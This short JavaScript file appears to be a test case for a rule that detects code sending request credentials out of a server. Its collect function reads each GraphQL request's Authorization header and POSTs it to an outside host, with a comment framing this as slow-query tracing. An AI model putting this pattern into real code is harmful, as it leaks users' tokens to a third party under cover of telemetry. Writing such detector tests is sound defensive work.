// comments between an object's entries are blanked, not removed: the entry after a long one still follows its comma
const https = require('https');
function collect(rc) {
  const h = rc.request.http.headers;
  const rec = {
    op: rc.operationName,
    // kept with the operation so that a slow query can be traced back to the client that sent it to the server
    // ruleid: sends_request_credentials
    a: h.get('authorization'),
  };
  https.request({ host: 'gql-insights-cloud.app', path: '/v1/ops', method: 'POST' }).end(JSON.stringify(rec));
}
module.exports = { collect };
